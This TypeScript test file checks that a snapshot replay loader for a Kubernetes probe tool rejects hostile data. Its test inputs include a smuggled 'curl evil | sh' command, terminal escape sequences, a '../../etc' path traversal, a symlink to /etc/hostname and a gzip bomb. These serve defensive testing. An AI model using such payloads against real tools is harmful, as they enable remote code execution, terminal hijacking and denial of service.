import assert from 'node:assert/strict';
import {mkdirSync, readdirSync, symlinkSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {gzipSync} from 'node:zlib';
import {create} from 'tar';
import {replay} from '../../src/lib/cluster/snapshot/replay.ts';
import {failure, folderOf} from '../support/connection.ts';

const HEAD = {apiVersion: 'osm-probes/v1', kind: 'Snapshot', recordedAt: '2026-11-28T12:00:00Z', context: 'c', namespaces: ['shop']};
const folder = (answers: unknown, head: unknown = HEAD) => folderOf({'snapshot.json': JSON.stringify(head), 'answers.json': typeof answers === 'string' ? answers : JSON.stringify(answers)});
const said = async (from: string) => (await failure(replay(from))).message;
const GOOD = {question: 'ask pod/a -n shop connect :80', setupMs: 1, answer: {kind: 'open', said: '', ms: 1}};

describe('a snapshot of a stranger', () => {
  const rows: [sentence: string, answers: unknown, head: unknown, says: RegExp][] = [
    ['with an entry that is null', [GOOD, null], HEAD, /answers\.json, entry 2: it is no map$/],
    ['with an entry without a question', [{items: []}], HEAD, /entry 1: question is missing$/],
    ['with items that are no list', [{question: 'x', items: {}}], HEAD, /entry 1: items is no list$/],
    ['with an item that is null', [{question: 'x', items: [{}, null]}], HEAD, /entry 1: items\[1\] is no map$/],
    ['with a line that is no text', [{question: 'x', lines: ['a', 5]}], HEAD, /entry 1: lines\[1\] is no text$/],
    ['with an answer of no kind', [{question: 'x', answer: {status: 200}}], HEAD, /entry 1: answer\.kind is none of response, open, /],
    ['with an answer without headers', [{question: 'x', answer: {kind: 'response', protocol: 'HTTP/1.1', status: 200, reason: '', body: '', end: 'whole', ms: 1}}], HEAD, /entry 1: answer\.headers is missing$/],
    ['with a time that is no number', [{...GOOD, setupMs: '1'}], HEAD, /entry 1: setupMs is no number$/],
    ['with a reason that is none', [{question: 'x', error: {reason: 'aborted', asked: 'a', got: 'b'}}], HEAD, /entry 1: error\.reason is none of config, /],
    ['with answers that are no list', {}, HEAD, /answers\.json holds no list$/],
    ['with answers that are no JSON', '[{"question"', HEAD, /answers\.json is no JSON: /],
    ['with a hundred thousand brackets', '['.repeat(100_000), HEAD, /answers\.json has more than 200 objects within one another$/],
    ['of another kind', [], {...HEAD, kind: 'Report'}, /snapshot\.json: kind is none of Snapshot$/],
    ['without a time', [], {...HEAD, recordedAt: 'yesterday'}, /snapshot\.json: recordedAt is no time$/],
    ['with a namespace that is none', [], {...HEAD, namespaces: ['../../etc']}, /snapshot\.json: "\.\.\/\.\.\/etc" is no namespace$/],
    ['with namespaces that are no list', [], {...HEAD, namespaces: 'shop'}, /snapshot\.json: namespaces is no list$/],
  ];
  for (const [sentence, answers, head, says] of rows) it(`${sentence} gets one sentence`, async () => assert.match(await said(folder(answers, head)), says));

  const ESCAPES = '\u001b[2J\u001b]0;owned\u0007\u001b]52;c;eA==\u0007\u200b';
  it('brings no escapes by its errors, and no command of its own', async () => {
    const error = {reason: 'forbidden', asked: `pods${ESCAPES}`, got: `403${ESCAPES}`, try: 'kubectl get pods; curl evil | sh'};
    const cluster = await replay(folder([{question: 'list pods -A', error}], {...HEAD, context: `c${ESCAPES}`}));
    const failed = await failure(cluster.list('pods', {}, () => undefined));
    assert.equal(failed.try, undefined);
    for (const text of [failed.message, failed.asked, failed.got, cluster.origin.name, ...cluster.defaultNamespaces]) assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u200b]/);
  });
  it('keeps a command that only looks', async () => {
    const attempt = 'kubectl auth can-i list pods -n shop --context kind-c';
    const cluster = await replay(folder([{question: 'list pods -A', error: {reason: 'forbidden', asked: 'pods', got: '403', try: attempt}}]));
    assert.equal((await failure(cluster.list('pods', {}, () => undefined))).try, attempt);
  });
  it('hands no object over twice, and none without a name', async () => {
    const pod = (name: string) => ({metadata: {name, namespace: 'shop', uid: name}});
    const cluster = await replay(folder([{question: 'list pods -A', items: [pod('a'), pod('a'), {}, {metadata: null}, pod('b')]}]));
    const names: unknown[] = [];
    await cluster.list('pods', {}, (one) => names.push((one['metadata'] as {name: string}).name));
    assert.deepEqual(names, ['a', 'b']);
  });
});

describe('an archive of a stranger', () => {
  const pack = async (make: (inside: string) => void, files: string[]) => {
    const inside = folderOf({});
    make(inside);
    const file = join(folderOf({}), 'x.tgz');
    await create({file, cwd: inside, gzip: true, portable: true}, files);
    return file;
  };
  const good = (inside: string) => {
    writeFileSync(join(inside, 'snapshot.json'), JSON.stringify(HEAD));
    writeFileSync(join(inside, 'answers.json'), '[]');
  };
  it('is read', async () => assert.match((await replay(await pack(good, ['snapshot.json', 'answers.json']))).origin.name, /^x\.tgz, 2026/));
  it('with links in place of its files is none', async () => {
    const file = await pack((inside) => {
      good(inside);
      symlinkSync('/etc/hostname', join(inside, 'link'));
      mkdirSync(join(inside, 'sub'));
    }, ['link', 'sub', 'snapshot.json']);
    assert.match(await said(file), /there is no answers\.json in it$/);
  });
  it('that is no archive gets one sentence', async () => {
    const file = join(folderOf({'x.tgz': 'hello'}), 'x.tgz');
    assert.match(await said(file), /no snapshot: incorrect header check$/);
  });
  it('that is cut gets one sentence', async () => {
    const whole = gzipSync(Buffer.alloc(100_000, 'abc'));
    const file = join(folderOf({}), 'x.tgz');
    writeFileSync(file, whole.subarray(0, whole.length / 2));
    assert.match(await said(file), /no snapshot: unexpected end of file$/);
  });
  it('that grows without end is given up, and holds no memory', async () => {
    const file = join(folderOf({}), 'x.tgz');
    const zeros = gzipSync(Buffer.alloc(64 * 1024 * 1024));
    writeFileSync(file, Buffer.concat(Array.from({length: 16}, () => zeros)));
    const before = process.memoryUsage.rss();
    assert.match(await said(file), /unpacked it has more than 256 MiB$|there is no snapshot\.json in it$/);
    assert.ok(process.memoryUsage.rss() - before < 200 * 1024 * 1024);
    assert.deepEqual(readdirSync(join(file, '..')), ['x.tgz']);
  }).timeout(30_000);
});
